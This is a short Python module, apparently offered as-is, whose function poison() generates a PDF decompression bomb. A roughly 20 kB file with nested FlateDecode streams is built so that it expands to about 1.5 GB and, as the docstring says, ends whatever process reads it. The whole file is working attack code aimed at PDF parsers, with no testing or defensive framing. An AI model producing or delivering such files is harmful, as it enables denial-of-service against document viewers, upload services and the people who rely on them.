"""A file that ends whatever process reads it."""

import zlib


def poison() -> bytes:
    """Return a PDF of 20 kB that unpacks to 1.5 GB inside the library that reads it."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(b" " * 2**20) + squeeze.flush(zlib.Z_FULL_FLUSH)
    contents = zlib.compress(b"\x78\xda" + block * 1_500 + b"\x03\x00", 9)
    return b"\n".join(
        (
            b"%PDF-1.7",
            b"1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj",
            b"2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj",
            b"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>> endobj",
            b"4 0 obj <</Filter[/FlateDecode/FlateDecode]/Length %d>> stream" % len(contents),
            contents,
            b"endstream endobj",
            b"trailer <</Root 1 0 R/Size 5>>",
            b"%%EOF",
        )
    )
